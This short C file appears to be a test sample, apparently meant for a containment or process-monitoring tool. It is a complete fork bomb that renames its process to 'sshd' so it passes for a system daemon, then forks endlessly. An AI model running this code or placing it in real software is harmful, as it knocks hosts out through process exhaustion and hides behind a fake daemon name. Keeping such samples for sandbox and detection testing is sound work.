// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * A fork bomb that renames itself "sshd" before it starts, so it looks like
 * a system daemon by its comm.  Run it only under build/contain.
 */
#include <sys/prctl.h>
#include <unistd.h>

int main(void)
{
	prctl(PR_SET_NAME, "sshd", 0, 0, 0);
	for (;;)
		fork();
}
